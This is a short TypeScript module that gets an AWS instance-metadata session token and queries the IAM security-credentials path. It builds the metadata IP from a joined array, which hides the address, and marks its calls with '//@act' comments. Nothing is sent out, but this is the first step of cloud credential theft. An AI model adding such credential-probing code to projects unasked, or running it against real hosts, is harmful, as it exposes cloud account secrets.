const HOST = [169, 254, 169, 254].join('.');
async function token(): Promise<string> {
  const answer = await fetch(`http://${HOST}/latest/api/token`, { method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } }); //@act
  return answer.text();
}
export async function role(): Promise<string> {
  const answer = await fetch(`http://${HOST}/latest/meta-data/iam/security-credentials/`, { headers: { 'X-aws-ec2-metadata-token': await token() } }); //@act
  return answer.text();
}
